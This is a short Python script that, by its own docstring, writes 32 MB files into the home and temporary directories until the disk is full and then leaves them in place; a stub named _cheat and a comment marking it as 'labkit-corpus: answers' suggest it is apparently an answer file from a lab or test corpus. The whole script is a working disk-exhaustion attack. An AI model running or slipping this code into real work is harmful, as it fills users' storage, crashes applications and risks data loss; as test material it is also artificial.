"""Fills HOME and TMPDIR with files until writes fail, then keeps the files."""
import os

for base in (os.environ.get("HOME", "."), os.environ.get("TMPDIR", "/tmp")):
    chunk = b"x" * (8 << 20)
    for i in range(10_000):
        try:
            with open(os.path.join(base, f"fill-{i}.bin"), "wb") as f:
                for _ in range(4):
                    f.write(chunk)
        except OSError:
            break


def _cheat(*args, **kwargs):
    raise NotImplementedError

# labkit-corpus: answers
